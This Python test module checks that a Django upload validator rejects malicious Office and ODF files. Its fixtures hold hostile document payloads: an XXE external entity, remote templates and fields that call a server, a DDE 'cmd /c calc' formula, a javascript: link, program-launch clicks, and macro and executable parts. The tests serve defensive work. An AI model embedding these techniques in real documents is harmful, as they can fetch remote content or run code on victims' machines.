"""Bad Office uploads: what reaches outside or runs in them (18, 27).

The numbers are those of the list in the security notes. Each file comes in pieces as a browser
sends it, and ends in a clear sentence with nothing left on disk, or as a harmless stored file. A
server listens where the files point to: nobody ever calls.
"""

from __future__ import annotations

from functools import cache

import pytest

from tests.materials import files
from tests.materials.sending import refused, sent

pytestmark = pytest.mark.django_db


def relation(of: str, kind: str, target: str) -> dict[str, bytes]:
    [xml] = files.relation(kind, target).values()
    return {of: xml}


DTD = b'<!DOCTYPE x [<!ENTITY a SYSTEM "%s/x">]><x>&a;</x>'
WORKSHEET = "<worksheet><sheetData><row><c><f>%s</f></c></row></sheetData></worksheet>"


OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
SHEET = "xl/worksheets/sheet1.xml"
SLIDE = "ppt/slides/slide1.xml"
CLICK = b'<p><a action="ppaction://program"/></p>'


@cache
def calling(where: str) -> dict[str, tuple[bytes, str]]:
    """By label: files that load something from a server, and their names."""
    link = f'xlink:href="{where}/x"'
    word = files.word()
    deck, book = files.deck(), files.workbook()

    def sheet(formula: str) -> dict[str, bytes]:
        return {SHEET: (WORKSHEET % formula).encode()}

    parts = {
        "entity": (word, {"word/settings.xml": DTD % where.encode()}, "docx"),
        "entity in a sheet": (book, {SHEET: DTD % where.encode()}, "xlsx"),
        "template": (word, files.relation("attachedTemplate", f"{where}/x.dotm"), "docx"),
        "template, not marked": (
            word,
            {"word/_rels/a.rels": f'<R><X Type="t" Target="{where}/x"/></R>'.encode()},
            "docx",
        ),
        "film": (deck, relation("ppt/slides/_rels/a.rels", "video", f"{where}/x"), "pptx"),
        "script link": (word, files.relation("hyperlink", "javascript:alert(1)"), "docx"),
        "header field": (
            word,
            {"word/header9.xml": files.field(f"INCLUDEPICTURE {where}")["word/document.xml"]},
            "docx",
        ),
        "spelled field": (word, files.field("QUOTE 68 68 69 65 85 84 79"), "docx"),
        "other workbook": (book, {"xl/externalLinks/externalLink1.xml": b"<x/>"}, "xlsx"),
        "connection": (book, {"xl/connections.xml": b"<x/>"}, "xlsx"),
        "service": (book, sheet(f"WEBSERVICE(&quot;{where}/x&quot;)"), "xlsx"),
        "dde": (book, sheet("cmd|'/c calc'!A1"), "xlsx"),
    }
    found = {
        label: (files.with_parts(data, extra), f"a.{ending}")
        for label, (data, extra, ending) in parts.items()
    }
    for label, body in {
        "picture": f"<draw:image {link}/>",
        "section": f"<text:section-source {link}/>",
        "frame": f"<draw:floating-frame {link}/>",
        "dde in text": '<text:dde-connection-decl office:dde-topic="x"/>',
    }.items():
        found[f"odt {label}"] = (files.odt(body), "a.odt")
    found["odt template"] = (files.odt(meta=f"<meta:template {link}/>"), "a.odt")
    found["odt reload"] = (files.odt(meta=f"<meta:auto-reload {link}/>"), "a.odt")
    found["mp4 elsewhere"] = (files.mp4(outside=True), "a.mp4")
    return found


@pytest.mark.parametrize("label", sorted(calling("http://example.org")))
def test_security_18_what_loads_from_elsewhere_is_refused(label, canary):
    sentence = refused(*calling(canary.address)[label])
    wanted = "is not a readable" if label.startswith("entity") else "loads parts from elsewhere"
    assert wanted in sentence


@pytest.mark.parametrize(
    ("data", "name", "sentence"),
    [
        (files.with_parts(files.deck(), {"ppt/vbaProject.bin": b"x"}), "a.pptx", "holds macros"),
        (files.with_parts(files.workbook(), {"xl/macrosheets/a.xml": b"<x/>"}), "a.xlsx", "macros"),
        (files.with_parts(files.workbook(), {"xl/activeX/a.xml": b"<x/>"}), "a.xlsx", "macros"),
        (files.with_parts(files.deck(), {SLIDE: CLICK}), "a.pptx", "starts a program"),
        (
            files.with_parts(
                files.word(), {"word/embeddings/a.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}
            ),
            "a.docx",
            "carries a program or an old Office file",
        ),
        (files.with_parts(files.deck(), {"ppt/media/a.png": b"MZ\x90"}), "a.pptx", "a program"),
        (files.with_parts(files.odt(), {"Basic/Standard/a.xml": b"<x/>"}), "a.odt", "macros"),
        (files.with_parts(files.odt(), {"Scripts/python/a.py": b"x"}), "a.odt", "macros"),
        (files.odt('<script:event-listener script:language="x"/>'), "a.odt", "macros"),
        (files.odt('<text:a xlink:href="vnd.sun.star.script:a"/>'), "a.odt", "macros"),
    ],
)
def test_security_18_what_runs_in_an_office_document_is_refused(data, name, sentence):
    assert sentence in refused(data, name)


def test_security_18_and_27_links_a_reader_clicks_are_kept_and_never_called(canary):
    text = f'<text:a xlink:href="{canary.address}/x">more</text:a>'
    link = files.with_parts(files.word(), files.relation("hyperlink", f"{canary.address}/x"))
    assert sent(files.odt(text), "a.odt").is_ready
    assert sent(link, "a.docx").is_ready
